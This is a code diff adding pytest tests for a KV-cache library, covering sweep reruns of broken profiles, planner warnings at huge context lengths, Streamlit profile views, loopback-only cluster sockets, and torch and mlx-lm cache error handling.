+# 5. a sweep index row marked done whose profile does not open is run again, and the sweep says so
+
+SWEEP_GRID = """\
+name = "resume"
+models = ["tiny-llama"]
+devices = ["cpu"]
+strategies = ["rotating:max_size=8"]
+prompts = ["hello"]
+max_tokens = 2
+"""
+DONE_BUT_BROKEN = [
+    (5, "a 0-byte profile", b"", "is empty (0 bytes)"),
+    (5, "a profile cut to its header", b"table,key,value\n", "does not open"),
+    (5, "text that is no profile", b"a,b\n1,2\n", "does not open"),
+]
+
+
+@pytest.mark.parametrize("item, what, content, says", DONE_BUT_BROKEN, ids=[c[1] for c in DONE_BUT_BROKEN])
+def test_5_a_done_row_whose_profile_does_not_open_is_run_again(item, what, content, says, tmp_path):
+    from cachelib.sweep import plan_sweep
+    from cachelib.sweep.index import pending_row, write_index
+    from cachelib.sweep.grid import parse_grid
+
+    grid = tmp_path / "grid.toml"
+    grid.write_text(SWEEP_GRID, encoding="utf-8")
+    [point] = parse_grid(SWEEP_GRID, grid).points()
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / point.file).write_bytes(content)
+    write_index(out, [pending_row(point) | {"status": "done", "file": point.file}])
+    before = snapshot(tmp_path)
+    plan = plan_sweep(grid, out)
+    assert plan.todo == [point]  # not skipped
+    why = plan.reruns[point.id]
+    assert point.file in why and says in why and why.endswith("running it again"), why
+    assert not unchanged(before, snapshot(tmp_path))  # planning writes nothing
+
+
+# 10. the Planner (CLI and page) at contexts far past the model's length: prompt, with a warning
+
+
+@pytest.mark.parametrize("context", [10**8, 10**12])
+def test_10_plan_at_a_huge_context_answers_in_seconds_and_warns_of_the_models_limit(context, capsys, tmp_path):
+    before = snapshot(tmp_path)
+    started = time.monotonic()
+    code, err, out = run_cli(["plan", "--model", "llama-3.1-8b", "--context", str(context), "--prefill-chunk", "2048",
+                              "--budget-gb", "24", "--no-default-evidence"], capsys)  # fmt: skip
+    assert code == 0, err
+    assert time.monotonic() - started < 20
+    assert err == [f"warning: context {context:,} is past llama-3.1-8b's limit of 131,072 tokens "
+                   "(max_position_embeddings): the bytes are what the cache would hold, but the model was not "
+                   "built to attend that far"]  # fmt: skip
+    assert not unchanged(before, snapshot(tmp_path))
+
+
+def test_10_the_planner_page_at_10_to_the_12_answers_with_the_warning(tmp_path, monkeypatch):
+    from streamlit.testing.v1 import AppTest
+
+    monkeypatch.setenv("CACHELIB_PROFILES_DIR", str(tmp_path))
+    at = AppTest.from_file(str(ROOT / "app" / "main.py"), default_timeout=60)
+    at.run()
+    at.switch_page("views/planner.py").run()
+    at.multiselect(key="plan_evidence").set_value([]).run()
+    started = time.monotonic()
+    at.number_input(key="plan_context").set_value(10**12).run()
+    assert time.monotonic() - started < 30 and not at.exception and not at.error
+    assert any("context 1,000,000,000,000 is past llama-3.1-8b's limit" in w.value for w in at.warning)
+
+
+# 13. a large profile in the app: the metadata and steps first, each other table when asked, its size shown
+
+
+def test_13_a_large_profiles_bad_layers_table_is_one_error_when_read_and_the_steps_charts_stay(
+    masked_profile, tmp_path, monkeypatch
+):
+    from streamlit.testing.v1 import AppTest
+
+    from app import data
+    from app.keys import Keys
+    from cachelib.core.units import human_bytes
+
+    monkeypatch.setattr(data, "LARGE_BYTES", 1)  # every file counts as large
+    folder = tmp_path / "profiles"
+    folder.mkdir()
+    monkeypatch.setenv("CACHELIB_PROFILES_DIR", str(folder))
+    bad = _edit(masked_profile, folder / "big.csv", "layers", "bytes_used", "9" * 40)
+    before = snapshot(tmp_path)
+    at = AppTest.from_file(str(ROOT / "app" / "main.py"), default_timeout=120)
+    at.run()
+    at.switch_page("views/profiles.py").run()
+    assert at.dataframe[0].value.set_index("profile").loc["big.csv", "size"] == human_bytes(bad.stat().st_size)
+    at.multiselect(key="compare").select("big.csv").run()
+    assert not at.exception and not at.error and len(at.get("plotly_chart")) == 3  # steps charts only
+    assert set(at.session_state[Keys.LOADED]["big"].tables.loaded) == {"steps"}
+    at.toggle(key=Keys.read_table("compare", "layers")).set_value(True).run()
+    assert not at.exception and len(at.error) == 1
+    said = at.error[0].value.replace("\\", "")  # the page escapes markdown in user text
+    assert said.startswith("big.csv, line ") and "column 'bytes_used'" in said, said
+    assert "does not fit a 64-bit integer" in said
+    assert not unchanged(before, snapshot(tmp_path))
+
+
+# 16. the local sweep cluster listens on loopback only, dashboard included
+
+
+def test_16_no_socket_of_a_local_sweep_cluster_listens_beyond_loopback(tmp_path):
+    import ipaddress
+
+    import psutil
+
+    from cachelib.sweep.cluster import start_local_cluster
+    from cachelib.sweep.grid import parse_grid
+
+    points = parse_grid(SWEEP_GRID, tmp_path / "grid.toml").points()
+    me = psutil.Process()
+
+    def listening():
+        out = set()
+        for p in [me, *me.children(recursive=True)]:
+            try:
+                conns = p.net_connections("inet")
+            except psutil.NoSuchProcess:
+                continue
+            out |= {(p.pid, c.laddr.ip, c.laddr.port) for c in conns if c.status == psutil.CONN_LISTEN}
+        return out
+
+    before = listening()
+    cluster = start_local_cluster(points, workers=1)
+    try:
+        opened = listening() - before
+        assert len(opened) >= 4 and any(pid != me.pid for pid, _, _ in opened), opened
+        assert [s for s in opened if not ipaddress.ip_address(s[1]).is_loopback] == []
+    finally:
+        cluster.close()
+
+
+# 17. transformers' behaviours our torch layers keep: over-crops empty, refusals are its classes too
+
+TORCH_REFUSALS = [
+    (17, "crop of a full sliding window without past recording", "DynamicSlidingWindowLayer", (3,), 4, -1, RuntimeError,
+     "activate_past_recording"),
+    (17, "crop(+1) of a static layer", "StaticLayer", (8,), 2, 1, RuntimeError, "must be <= 0"),
+    (17, "writing past a static layer", "StaticLayer", (4,), 3, None, IndexError, "do not fit in max_cache_len=4"),
+    (17, "crop of a recurrent state without past recording", "LinearAttentionLayer", (), 0, -1, RuntimeError,
+     "activate_past_recording"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "item, what, name, args, held, crop, theirs, says", TORCH_REFUSALS, ids=[c[1] for c in TORCH_REFUSALS]
+)
+def test_17_a_refusal_is_our_value_error_and_the_class_transformers_raises(
+    item, what, name, args, held, crop, theirs, says
+):
+    import torch
+
+    import cachelib.torch as ct
+
+    layer = getattr(ct, name)(*args)
+    kv = torch.zeros(1, 2, max(held, 1), 4)
+    if held:
+        layer.update(kv[..., :held, :], kv[..., :held, :])
+    with pytest.raises(ValueError) as refused:
+        if crop is None:
+            layer.update(kv[..., :2, :].expand(1, 2, 2, 4), kv[..., :2, :].expand(1, 2, 2, 4))
+        else:
+            layer.crop(crop)
+    assert isinstance(refused.value, theirs)
+    assert name in str(refused.value) and says in str(refused.value)
+
+
+@pytest.mark.parametrize("name, args", [("DynamicLayer", ()), ("StaticLayer", (8,)), ("QuantizedLayer", ()),
+                                        ("KVCacheLayer", ()), ("DynamicSlidingWindowLayer", (16,))])  # fmt: skip
+def test_17_cropping_more_than_is_held_empties_the_layer(name, args):
+    import torch
+
+    import cachelib.torch as ct
+
+    layer = getattr(ct, name)(*args)
+    kv = torch.zeros(1, 2, 5, 64)
+    layer.update(kv, kv)
+    layer.crop(-50)
+    assert layer.get_seq_length() == 0 and layer.introspect().tokens_held == 0
+
+
+# 18. mlx-lm's own batch files: what mlx-lm loads and runs loads (with a warning); what it cannot use is refused
+
+
+def test_18_a_batch_file_mlx_lm_writes_loads_with_a_warning_and_an_unusable_one_is_refused(tmp_path):
+    import mlx.core as mx
+    import mlx_lm.models.cache as ref
+
+    import cachelib.mlx as ours
+
+    usable, unusable = tmp_path / "one-padding.safetensors", tmp_path / "two-for-three.safetensors"
+    for path, pads, rows in ((usable, [1], 2), (unusable, [1, 0], 3)):
+        cache = ref.BatchKVCache(pads)
+        k = mx.zeros((rows, 1, 3, 32))
+        cache.update_and_fetch(k, k)
+        ref.save_prompt_cache(str(path), [cache])
+        ref.load_prompt_cache(str(path))  # mlx-lm reads both back without complaint
+    before = snapshot(tmp_path)
+    with pytest.warns(UserWarning, match=r"one-padding.safetensors.*layer 0 \(BatchKVCache\).*for 2 batch rows"):
+        [loaded] = ours.load_prompt_cache(str(usable))
+    assert loaded.left_padding.tolist() == [1, 1]
+    with pytest.raises(ValueError, match=r"two-for-three.safetensors.*layer 0 \(BatchKVCache\).*left_padding has 2 entries"):
+        ours.load_prompt_cache(str(unusable))
+    assert not unchanged(before, snapshot(tmp_path))
